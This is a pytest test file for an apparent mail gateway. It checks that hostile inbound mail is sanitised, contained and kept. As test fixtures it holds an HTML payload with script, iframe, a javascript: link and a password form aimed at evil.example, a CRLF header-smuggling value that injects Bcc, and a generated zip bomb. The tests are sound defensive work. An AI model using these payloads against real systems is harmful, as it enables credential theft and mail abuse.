"""Bad mails are harmless, told clearly, and nothing of them is lost."""

from __future__ import annotations

import base64
import io
import zipfile
from email.message import EmailMessage
from typing import Any

import aiosmtplib
import pytest

from tests.gateway.centre import Room
from tests.gateway.http import request
from tests.gateway.wire import Tab
from tests.mail.conftest import Writer, address
from tests.mail.post_office import hand_in
from tests.patience import eventually

pytestmark = pytest.mark.asyncio(loop_scope="module")

PIXEL = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
EVIL = """
<p onclick="steal()">Hello <b>you</b></p><script>steal()</script><iframe src="https://evil.example"></iframe>
<img src="https://evil.example/seen.png"><img src="cid:logo"><a href="javascript:steal()">x</a>
<form action="https://evil.example"><input name=password></form><style>@import "https://evil.example/x.css"</style>
"""


def with_html(writer: Writer) -> bytes:
    mail = EmailMessage()
    for name, value in {"From": writer.address, "To": address(writer.room.number), "Subject": "Look"}.items():
        mail[name] = value
    mail.set_content("Hello you")
    mail.add_alternative(EVIL, subtype="html")
    html = list(mail.iter_parts())[1]
    assert isinstance(html, EmailMessage)
    html.add_related(PIXEL, maintype="image", subtype="png", cid="<logo>")
    return bytes(mail)


async def assigned(agent: Tab) -> dict[str, Any]:
    offer = (await agent.event("offer.created"))["offer"]
    await agent.ask("offer.accept", offer_id=offer["offer_id"])
    work: dict[str, Any] = (await agent.event("item.assigned"))["assignment"]
    return work


def files_of(agent: Tab) -> list[dict[str, Any]]:
    found: list[dict[str, Any]] = agent.state["assignments"][0]["conversation"]["messages"][0]["extra"]["files"]
    return found


async def test_the_original_is_shown_without_anything_that_runs_or_calls_home(room: Room, writer: Writer) -> None:
    anna = await room.tab(room.anna)
    made = with_html(writer)
    await writer.hands_in(made)
    work = await assigned(anna)
    said = work["conversation"]["messages"][0]
    assert said["text"] == "Hello you"
    assert said["extra"]["files"] == [], "a small image of the HTML is no file of its own"
    assert said["extra"]["mail"]["original"] is True
    cookie = {"cookie": f"usher_session={await room.centre.cookie(room.anna)}"}
    path = f"/api/mails/{work['conversation']['conversation_id']}/1"
    shown = await request(room.centre.first.url, "GET", path, headers=cookie)
    assert shown.status_code == 200, shown.text
    policy = shown.headers["content-security-policy"]
    assert policy.startswith("default-src 'none'; img-src data:;")
    assert "sandbox" in policy
    assert "allow-scripts" not in policy
    assert "Hello <b>you</b>" in shown.text
    assert f"data:image/png;base64,{base64.b64encode(PIXEL).decode()}" in shown.text
    assert not [word for word in ("steal", "evil.example", "<script", "<form", "<iframe") if word in shown.text]
    raw = await request(room.centre.first.url, "GET", f"{path}?raw=1", headers=cookie)
    assert raw.content.replace(b"\r\n", b"\n") == made.replace(b"\r\n", b"\n")
    assert raw.headers["content-disposition"] == "attachment; filename*=UTF-8''Look.eml"
    stranger = {"cookie": f"usher_session={await room.centre.cookie('anna-78')}"}
    assert (await request(room.centre.first.url, "GET", path, headers=stranger)).status_code == 403
    assert (await request(room.centre.first.url, "GET", path)).status_code == 401
    missing = await request(room.centre.first.url, "GET", f"{path}99", headers=cookie)
    assert (missing.status_code, missing.json()["error"]["code"]) == (404, "unknown_file")


async def test_fields_cannot_be_smuggled_into_the_answer(room: Room, writer: Writer) -> None:
    anna = await room.tab(room.anna)
    evil = "=?utf-8?q?Hi=0D=0ABcc=3A_all=40example=2Eorg=00?="
    work = await writer.talks_with(
        anna, "one\0two", Subject=evil, From=f"{evil} <{writer.address}>", References="<a@b> =?utf-8?q?=0ABcc=3A?="
    )
    assert work["conversation"]["messages"][0]["text"].startswith("one")
    await anna.ask(
        "message.send", conversation_id=work["conversation"]["conversation_id"], client_id="a", text="Bcc: x@y.example"
    )
    (letter,) = await writer.gets()
    assert letter.recipients == (writer.address,)
    head = letter.raw.partition(b"\n\n")[0].lower()
    assert not [line for line in head.splitlines() if line.startswith(b"bcc")]


async def test_a_zip_bomb_is_a_file_like_others(room: Room, writer: Writer) -> None:
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("zeros", bytes(50_000_000))
    mail = EmailMessage()
    mail["From"], mail["To"] = writer.address, address(room.number)
    mail.set_content("Open this.")
    mail.add_attachment(bomb.getvalue(), maintype="application", subtype="zip", filename="bomb.zip")
    anna = await room.tab(room.anna)
    await writer.hands_in(bytes(mail))
    await assigned(anna)
    await eventually(lambda: [file["state"] for file in files_of(anna)] == ["stored"])
    assert files_of(anna)[0]["size_bytes"] == len(bomb.getvalue())


async def test_a_mail_with_fifty_megabytes_is_refused_at_the_door(room: Room, writer: Writer) -> None:
    with pytest.raises(aiosmtplib.SMTPResponseException) as refused:
        await hand_in(writer.house.smtp_port, b"Subject: x\n\n" + b"A" * 69_000_000, address(room.number))
    assert refused.value.code == 552


async def test_what_was_fetched_with_fifty_megabytes_tells_what_is_missing_and_keeps_all(
    room: Room, writer: Writer
) -> None:
    large = base64.encodebytes(b"%PDF-1.7\n" + bytes(30_000_000))
    made = writer.mail(
        "--b\n\nSee below.\n--b\nContent-Type: application/pdf; name=large.pdf\nContent-Transfer-Encoding: base64\n\n"
        f"{large.decode()}\n--b--\n",
        MIME_Version="1.0",
        Content_Type="multipart/mixed; boundary=b",
    )
    await writer.house.centre.database.execute(
        "INSERT INTO inbox (account, sender, dedupe_id, headers, body, received_at, next_at)"
        " VALUES ($1, '', 'large', '{}', $2, 0, 0)",
        *(f"mail-{room.number}", made),
    )
    anna = await room.tab(room.anna)
    work = await assigned(anna)
    assert work["conversation"]["messages"][0]["text"] == "See below."
    await eventually(lambda: [file["state"] for file in files_of(anna)] == ["failed"])

    async def original_is_kept() -> bool:
        size = await writer.house.centre.database.fetch_value(
            "SELECT octet_length(bytes) FROM file_contents JOIN files ON id = file_id WHERE conversation_id = $1",
            work["conversation"]["conversation_id"],
        )
        return bool(size == len(made))

    await eventually(original_is_kept)


async def test_a_mail_of_ours_that_comes_back_is_nothing(room: Room, writer: Writer) -> None:
    anna = await room.tab(room.anna)
    work = await writer.talks_with(anna, "one")
    conversation_id = work["conversation"]["conversation_id"]
    await anna.ask("message.send", conversation_id=conversation_id, client_id="a", text="Hello.")
    (letter,) = await writer.gets()
    await writer.hands_in(letter.raw)

    async def ignored() -> bool:
        kinds = await writer.house.centre.database.fetch(
            "SELECT kind FROM inbox WHERE account = $1 AND state = 'done' ORDER BY id", f"mail-{room.number}"
        )
        return [row["kind"] for row in kinds] == ["message", "ignored"]

    await eventually(ignored)
    count = await writer.house.centre.database.fetch_value(
        "SELECT count(*) FROM messages WHERE conversation_id = $1 AND kind = 'text'", conversation_id
    )
    assert count == 2
